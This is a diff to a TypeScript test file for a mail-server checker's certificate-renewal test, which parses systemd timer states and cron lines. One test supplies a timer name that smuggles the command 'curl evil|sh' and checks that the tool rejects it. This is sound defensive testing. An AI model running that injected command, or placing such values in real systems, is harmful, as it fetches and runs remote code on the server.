@@ -9,6 +9,7 @@ import { checkDkim } from '../../src/checks/dkim.js';
 import { checkOutbound } from '../../src/checks/outbound.js';
 import { checkService, parseListeners, renewalResult } from '../../src/checks/service.js';
 import type { SshRemote } from '../../src/remote/ssh-remote.js';
+import { parseUnitStates } from '../../src/server/unit-states.js';
 import { connectAs } from '../remote/connect-helpers.js';
 import { canRunSshd, startSshd, type TestSshd } from '../remote/sshd.js';
 import { daysFromNow, makePki, type TestPki } from './helpers/certs.js';
@@ -139,13 +140,22 @@ describe('parsing what the server prints', () => {
     expect(owners.get(25)).toEqual(['chasquid']);
     expect(owners.get(587)).toEqual(['systemd', 'chasquid']);
   });
-  test('renewal: acme.sh cron line or a lego timer passes; nothing fails', () => {
-    expect(renewalResult('52 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n--- timers\n').status).toBe('ok');
-    expect(renewalResult('--- timers\nSat 2026-11-28 03:00:00 UTC 17h left - - mailsetup-certificate.timer mailsetup-certificate.service\n'))
-      .toMatchObject({ status: 'ok', details: expect.stringContaining('mailsetup-certificate.timer') });
-    expect(renewalResult('--- timers\n-                            -  -  - mailsetup-certificate.timer mailsetup-certificate.service\n'))
+  test('renewal: an acme.sh cron line or an active renewal timer passes; a stopped one names its fix; nothing fails', () => {
+    // As `systemctl show` prints the units (server/unit-states.ts).
+    const timer = (id: string, unit: string, active: string) => `Unit=${unit}\nId=${id}\nLoadState=loaded\nActiveState=${active}\n`;
+    const none = parseUnitStates('');
+    expect(renewalResult('52 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n', none).status).toBe('ok');
+    expect(renewalResult('# 52 0 * * * acme.sh --cron\n', none).status).toBe('fail');
+    expect(renewalResult('', parseUnitStates([timer('apt-daily.timer', 'apt-daily.service', 'active'), timer('mailsetup-certificate.timer', 'mailsetup-certificate.service', 'active')].join('\n'))))
+      .toMatchObject({ status: 'ok', details: 'timer: mailsetup-certificate.timer mailsetup-certificate.service' });
+    expect(renewalResult('', parseUnitStates(timer('mailsetup-certificate.timer', 'mailsetup-certificate.service', 'inactive'))))
       .toMatchObject({ status: 'fail', fix: 'systemctl enable --now mailsetup-certificate.timer' });
-    expect(renewalResult('17 * * * * root cd / && run-parts --report /etc/cron.hourly\n--- timers\nphpsessionclean.timer\n'))
+    // A timer named outright but not installed is not a renewal timer.
+    expect(renewalResult('17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
+      parseUnitStates('Id=certbot.timer\nLoadState=not-found\nActiveState=inactive\n\n' + timer('phpsessionclean.timer', 'phpsessionclean.service', 'active'))))
       .toMatchObject({ status: 'fail', fix: expect.stringContaining('cron') });
+    // The server names the timer, and a fix is pasted: a name systemd would not give is no timer at all.
+    expect(renewalResult('', parseUnitStates(timer('certbot;curl evil|sh;.timer', 'certbot.service', 'inactive'))))
+      .toMatchObject({ status: 'fail', details: 'no cron line or systemd timer renews the certificate' });
   });
 });
